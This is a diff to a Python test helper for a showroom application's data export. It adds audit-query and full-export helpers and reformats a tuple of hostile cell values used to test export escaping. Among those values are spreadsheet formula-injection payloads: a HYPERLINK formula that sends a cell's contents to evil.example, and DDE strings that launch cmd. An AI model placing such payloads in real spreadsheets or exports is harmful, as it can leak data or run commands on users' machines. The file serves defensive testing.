@@ -14,15 +14,21 @@ from sqlalchemy.orm import Session
 
 from showroom.bootstrap import Showroom
 from showroom.documents.cell_guard import unescaped, unguarded
+from showroom.exporting.service import ExportOrder
 from showroom.exporting.tables import NOT_EXPORTED, load_models
+from showroom.kernel.actor import Role
 from showroom.kernel.money import Money
-from showroom.persistence.columns import MoneyColumn, Moment, PersonalImage, Word
+from showroom.persistence.audit import AuditEntry
+from showroom.persistence.columns import Moment, MoneyColumn, PersonalImage, Word
 from showroom.persistence.orm import Model
 
+BOSS = frozenset({Role.ADMINISTRATOR, Role.SALES_MANAGER, Role.GENERAL_MANAGER})
+REASON = "年终把数据搬到总部系统"
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "''@x", "'plain", '",=1\r\n=2,"', "line\nbreak", "a\r\nb", "a\rb", "\x01\x02 \x1f",
-    "_x0041_ _x", "<r><t>x</t></r>", "<r></is></c><c r=\"Z9\"><f>1+1</f></c><c r=\"Y9\"><is></r>", "]]>&<x/>", "\ufffe\uffff",
+    "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "''@x", "'plain", '",=1\r\n=2,"', "line\nbreak", "a\r\nb", "a\rb",
+    "\x01\x02 \x1f",     "_x0041_ _x", "<r><t>x</t></r>", '<r></is></c><c r="Z9"><f>1+1</f></c><c r="Y9"><is></r>',
+    "]]>&<x/>", "\ufffe\uffff",
     "张𬱖 李䶮 👩‍👧", "1E5", "00123", "TRUE", "2026-11-22", "http://x.example", "  blank  ", "" , "#REF!", "{=1}",
     "x" * 40_000, "汉" * 33_000, "𬱖" * 17_000,
 )  # fmt: skip
@@ -79,7 +85,8 @@ def _value(column: sa.Column[Any], number: int, text: str, *, unique: bool) -> A
         other = next(iter(column.foreign_keys)).column.table
         return number if other.name != "store" else 1
     if isinstance(kind, Word):
-        return list(kind.words)[number % len(kind.words)]
+        words: Any = kind.words
+        return list(words)[number % len(words)]
     if isinstance(kind, MoneyColumn):
         return Money(number * 101)
     if isinstance(kind, Moment):
@@ -114,3 +121,15 @@ def json_rows(folder: Path, table: str) -> list[dict[str, Any]]:
     """All objects of a JSON Lines file."""
     with (folder / "json" / f"{table}.jsonl").open(encoding="utf-8", newline="\n") as file:
         return [json.loads(line) for line in file]
+
+
+def revealed(folder: Path, **more: Any) -> ExportOrder:
+    """An order for everything in full."""
+    return ExportOrder(folder, reveal=True, reason=REASON, **more)
+
+
+def audit_facts(store: Showroom) -> list[dict[str, Any]]:
+    """What the audit says of exports, oldest first."""
+    with store.work.db.read() as session:
+        query = sa.select(AuditEntry.facts).where(AuditEntry.object_kind == "export").order_by(AuditEntry.seq)
+        return [json.loads(facts) for facts in session.scalars(query)]
